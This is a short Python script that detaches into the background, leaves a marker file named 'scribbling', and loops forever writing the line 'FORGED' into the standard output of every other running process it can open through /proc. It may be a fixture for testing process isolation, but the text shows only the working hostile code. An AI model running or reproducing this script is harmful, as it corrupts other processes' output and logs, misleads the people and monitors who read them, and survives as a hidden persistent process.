"""Stays behind and writes into the output of every process that comes."""

import os

if os.fork():
    os._exit(0)
os.setsid()
own = os.getpid()
open("scribbling", "w").close()
while True:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, own):
            try:
                output = os.open(f"/proc/{name}/fd/1", os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            try:
                os.write(output, b"FORGED\n")
            except OSError:
                pass
            os.close(output)
